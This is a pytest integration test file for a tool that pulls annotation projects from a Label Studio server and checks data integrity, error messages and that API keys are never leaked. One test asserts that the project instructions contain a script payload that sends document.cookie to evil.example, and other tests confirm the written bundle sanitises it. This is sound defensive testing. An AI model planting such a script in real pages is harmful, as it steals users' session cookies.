"""Pull from a real Label Studio server and check that what comes out is what went in."""

from __future__ import annotations

import json
import logging
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import ls_project as P
import ls_server
import pandas as pd
import pytest
import yaml
from label_studio_sdk import LabelStudio

from labelaudit.errors import InputError
from labelaudit.sources.labelstudio import live, pull_project, read_export, write_bundle

pytestmark = [pytest.mark.labelstudio, pytest.mark.slow]


@pytest.fixture(scope="module")
def client(ls_server_session: ls_server.LabelStudioServer) -> LabelStudio:
    return LabelStudio(base_url=ls_server_session.url, api_key=ls_server_session.token)


@pytest.fixture(scope="module")
def filled(client: LabelStudio) -> P.FilledProject:
    return P.fill_project(client)


@pytest.fixture(scope="module")
def metadata_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("meta") / "annotators.csv"
    path.write_text(P.METADATA_CSV, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def pulled(ls_server_session, filled, metadata_file):
    return pull_project(
        ls_server_session.url,
        filled.project_id,
        ls_server_session.token,
        annotators_file=metadata_file,
    )


def _rows(judgments: pd.DataFrame) -> list[tuple]:
    rows = [
        (r.item_id, r.annotator_id, r.field, r.label, r.lead_time_s, bool(r.on_behalf))
        for r in judgments.itertuples()
    ]
    return sorted(rows, key=P.row_key)


def test_pulled_judgments_are_exactly_what_was_annotated(pulled, filled):
    assert _rows(pulled.judgments) == filled.expected_rows
    assert len(pulled.judgments) == 35
    assert list(pulled.judgments.columns) == [
        "item_id",
        "annotator_id",
        "field",
        "label",
        "created_at",
        "lead_time_s",
        "on_behalf",
    ]
    # skipped (cancelled) annotations: 2 annotations x 4 scored fields, label None
    assert pulled.judgments["label"].isna().sum() == 8
    assert str(pulled.judgments["created_at"].dtype) == "datetime64[ns, UTC]"
    assert pulled.judgments["created_at"].notna().all()
    assert pulled.skipped_rows == {"textarea_result": 2}
    assert pulled.source["counts"] == {
        "cancelled_annotations": 2,
        "multiple_values_on_single_choice": 1,
        "unknown_from_name": 1,
        "unknown_value": 1,
    }


def test_pulled_items_schema_guidelines_and_source(pulled, filled, ls_server_session, client):
    items = pulled.items.set_index("item_id")
    assert list(items.index) == [str(t) for t in filled.task_ids]
    for tid, task in zip(filled.task_ids, P.TASKS, strict=True):
        assert items.loc[str(tid), "text"] == task["text"]
        assert items.loc[str(tid), "language"] == task["language"]
        assert items.loc[str(tid), "response_b"] == task["response_b"]
    assert pulled.schema == P.EXPECTED_SCHEMA
    assert len(pulled.guidelines) == 1
    g = pulled.guidelines[0]
    # the server itself drops event handlers but keeps <script>: the raw text is passed on
    # as stored; write_bundle sanitises it
    stored = client.projects.get(id=filled.project_id).expert_instruction
    assert (g.name, g.fmt, g.text) == ("instructions.html", "html", stored)
    assert "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>" in g.text
    assert g.text.startswith(P.INSTRUCTIONS[:60])
    src = pulled.source
    assert src["kind"] == "labelstudio"
    assert src["url"] == ls_server_session.url
    assert src["project_id"] == filled.project_id
    assert src["server_version"].startswith("1.23.")
    assert src["sdk_version"] == "2.1.2"
    assert pd.Timestamp(src["pulled_at"]).tzinfo is not None
    assert "free-text field 'comment' (TextArea) is listed but not scored" in src["notes"]


def test_annotator_metadata_joined_by_email_and_emails_dropped(pulled, filled):
    ann = pulled.annotators.set_index("annotator_id")
    ids = {k: str(v) for k, v in filled.user_ids.items()}
    assert sorted(ann.index) == sorted(ids.values())
    assert list(pulled.annotators.columns) == ["annotator_id", "country", "region", "languages"]
    assert ann.loc[ids["kofi"], "country"] == "GH"  # email matched case-insensitively
    assert ann.loc[ids["ana"], "languages"] == "es;en"
    assert ann.loc[ids["li"], "region"] == "Asia"
    assert pd.isna(ann.loc[ids["sara"], "country"])
    assert pulled.source["annotators_without_metadata"] == 1
    assert pulled.source["metadata_rows_unmatched"] == 1
    text = pulled.annotators.to_csv() + pulled.judgments.to_csv() + json.dumps(pulled.source)
    for email in P.USERS.values():
        assert email.split("@")[0] not in text.lower()
    assert "annotators.test" not in text


def test_written_bundle_round_trips_and_holds_no_key_or_script(
    pulled, filled, tmp_path, ls_server_session
):
    out = write_bundle(pulled, tmp_path / "bundle")
    names = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    assert names == [
        "annotators.parquet",
        "guidelines/instructions.html",
        "items.parquet",
        "judgments.jsonl",
        "schema.yaml",
        "source.json",
    ]
    lines = (out / "judgments.jsonl").read_text(encoding="utf-8").splitlines()
    recs = [json.loads(line) for line in lines]
    rows = sorted(
        (
            r["item_id"],
            r["annotator_id"],
            r["field"],
            r["label"],
            r["lead_time_s"],
            r["on_behalf"],
        )
        for r in recs
    )
    assert sorted(rows, key=P.row_key) == filled.expected_rows
    assert all(pd.Timestamp(r["created_at"]).tzinfo is not None for r in recs)
    assert pd.read_parquet(out / "items.parquet").equals(pulled.items)
    assert pd.read_parquet(out / "annotators.parquet").equals(pulled.annotators)
    assert yaml.safe_load((out / "schema.yaml").read_text()) == P.EXPECTED_SCHEMA
    html = (out / "guidelines" / "instructions.html").read_text()
    assert "<script" not in html and "evil.example" not in html and "onclick" not in html
    assert "<h1>Toxicity guidelines</h1>" in html and "<b>toxic</b>" in html
    source = json.loads((out / "source.json").read_text())
    assert source["project_id"] == filled.project_id
    assert source["skipped_rows"] == {"textarea_result": 2}
    token = ls_server_session.token
    for path in out.rglob("*"):
        if path.is_file():
            assert token.encode() not in path.read_bytes(), path


def test_json_export_gives_the_same_tables_as_the_live_pull(
    client, filled, pulled, metadata_file, tmp_path
):
    exported = client.projects.exports.as_json(filled.project_id)
    path = tmp_path / "project-export.json"
    path.write_text(json.dumps(exported), encoding="utf-8")
    raw = read_export(path, label_config=P.LABEL_CONFIG)
    assert raw.source["format"] == "JSON"
    assert _rows(raw.judgments) == _rows(pulled.judgments)

    def by_key(df):
        return df.sort_values(["item_id", "annotator_id", "field"]).reset_index(drop=True)

    pd.testing.assert_series_equal(
        by_key(raw.judgments)["created_at"], by_key(pulled.judgments)["created_at"]
    )
    pd.testing.assert_frame_equal(
        raw.items.sort_values("item_id").reset_index(drop=True),
        pulled.items.sort_values("item_id").reset_index(drop=True),
    )
    assert raw.schema == pulled.schema
    assert raw.skipped_rows == pulled.skipped_rows
    assert raw.source["counts"] == pulled.source["counts"]
    assert sorted(raw.annotators["annotator_id"]) == sorted(pulled.annotators["annotator_id"])


@pytest.mark.parametrize("page_size", [3, 4])
def test_pages_through_tasks(ls_server_session, filled, pulled, monkeypatch, page_size):
    # 6 tasks: pages of 3 end exactly on the last task, pages of 4 end on a short page
    monkeypatch.setattr(live, "PAGE_SIZE", page_size)
    raw = pull_project(ls_server_session.url, filled.project_id, ls_server_session.token)
    assert _rows(raw.judgments) == _rows(pulled.judgments)
    assert list(raw.items["item_id"]) == list(pulled.items["item_id"])


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # the SDK's token refresh
def test_personal_access_token_works(ls_server_fresh):
    # a server of its own: creating a token changes the admin's state for good
    admin = LabelStudio(base_url=ls_server_fresh.url, api_key=ls_server_fresh.token)
    filled = P.fill_project(admin)
    pat = admin.tokens.create().token
    assert pat.count(".") == 2  # a JWT refresh token, not the legacy token
    raw = pull_project(ls_server_fresh.url, filled.project_id, pat)
    assert _rows(raw.judgments) == filled.expected_rows
    assert pat not in json.dumps(raw.source)


@pytest.mark.parametrize(("export_type", "fmt"), [("JSON_MIN", "JSON_MIN"), ("CSV", "CSV")])
def test_flat_exports_from_the_server_give_the_live_rows_they_can_hold(
    client, filled, export_type, fmt, tmp_path
):
    data = b"".join(
        client.projects.exports.download_sync(
            filled.project_id, export_type=export_type, download_all_tasks=True
        )
    )
    path = tmp_path / f"export.{fmt.lower()}"
    path.write_bytes(data)
    raw = read_export(path, label_config=P.LABEL_CONFIG)
    assert raw.source["format"] == fmt
    # these exports drop cancelled annotations, unknown controls and updated_by
    expected = sorted(
        (
            r[:5] + (False,)
            for r in filled.expected_rows
            if r[3] is not None and r[2] != "sentiment"
        ),
        key=P.row_key,
    )
    assert _rows(raw.judgments) == expected
    assert sorted(raw.items["item_id"]) == sorted(str(t) for t in filled.task_ids)
    assert raw.skipped_rows == {"textarea_result": 2}


def _input_error(fn) -> InputError:
    with pytest.raises(InputError) as info:
        fn()
    return info.value


def test_bad_key_says_401_and_how_to_fix(ls_server_session, filled, caplog):
    caplog.set_level(logging.DEBUG)
    bad = "not-the-right-key-0123456789"
    err = _input_error(lambda: pull_project(ls_server_session.url, filled.project_id, bad))
    text = str(err)
    assert "HTTP 401" in text
    assert "LABEL_STUDIO_API_KEY" in err.problems[0].fix
    assert bad not in text and bad not in repr(err.problems) and bad not in caplog.text
    assert err.__cause__ is None and err.__suppress_context__


def test_unknown_project_says_404(ls_server_session, caplog):
    caplog.set_level(logging.DEBUG)
    err = _input_error(lambda: pull_project(ls_server_session.url, 987654, ls_server_session.token))
    assert "project 987654 does not exist on this server (HTTP 404)" in str(err)
    assert "/projects/ID/" in err.problems[0].fix
    assert ls_server_session.token not in str(err) and ls_server_session.token not in caplog.text


def test_unreachable_server_is_named(caplog):
    caplog.set_level(logging.DEBUG)
    url = f"http://127.0.0.1:{ls_server.free_port()}"
    secret = "la-secret-for-unreachable-1"
    err = _input_error(lambda: pull_project(url, 1, secret, retries=0, timeout=5))
    assert f"Label Studio at {url}: cannot reach the server" in str(err)
    assert "Connection refused" in str(err)
    assert secret not in str(err) and secret not in caplog.text


@pytest.fixture
def plain_http_server(tmp_path) -> Iterator[str]:
    """A web server that is not Label Studio (no /api/version)."""
    port = ls_server.free_port()
    proc = subprocess.Popen(
        [sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1"],
        cwd=tmp_path,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        for _ in range(100):
            try:
                subprocess.run(
                    [
                        sys.executable,
                        "-c",
                        f"import urllib.request;urllib.request.urlopen('{url}/')",
                    ],
                    check=True,
                    capture_output=True,
                )
                break
            except subprocess.CalledProcessError:
                time.sleep(0.1)
        yield url
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def test_server_without_version_endpoint_is_reported(plain_http_server):
    err = _input_error(lambda: pull_project(plain_http_server, 1, "some-key-123", retries=0))
    assert "no /api/version" in str(err) and "HTTP 404" in str(err)
    assert "upgrade Label Studio" in err.problems[0].fix


def test_key_never_logged_during_a_pull(ls_server_session, filled, caplog, capfd):
    caplog.set_level(logging.DEBUG)
    raw = pull_project(ls_server_session.url, filled.project_id, ls_server_session.token)
    assert len(raw.judgments) == 35
    out, err = capfd.readouterr()
    token = ls_server_session.token
    assert token not in caplog.text and token not in out and token not in err
    assert token not in repr(raw.source) and token not in repr(raw.files)


def test_written_bundle_loads_with_the_folder_loader(pulled, filled, tmp_path):
    from labelaudit.config import AuditConfig
    from labelaudit.pipeline import load_bundle

    out = write_bundle(pulled, tmp_path / "bundle")
    bundle = load_bundle(AuditConfig(bundle=out))
    assert len(bundle.judgments) == 35
    skipped = bundle.judgments[bundle.judgments["skipped"]]
    cancelled = {(r[0], r[1], r[2]) for r in filled.expected_rows if r[3] is None}
    assert len(cancelled) == 8
    assert cancelled <= set(
        zip(skipped["item_id"], skipped["annotator_id"], skipped["field"], strict=True)
    )
    assert set(bundle.schema) == set(P.EXPECTED_SCHEMA["fields"])
    codes = {issue.code for issue in bundle.issues}
    # unknown choice, two values on a single choice, unknown field, posted on behalf
    assert {"LA004", "LA006", "LA011", "LA007"} <= codes
    (guide,) = bundle.guidelines
    assert guide.name == "instructions.html"
    assert "Toxicity guidelines" in guide.text and "evil.example" not in guide.text
    assert bundle.source["project_id"] == pulled.source["project_id"]
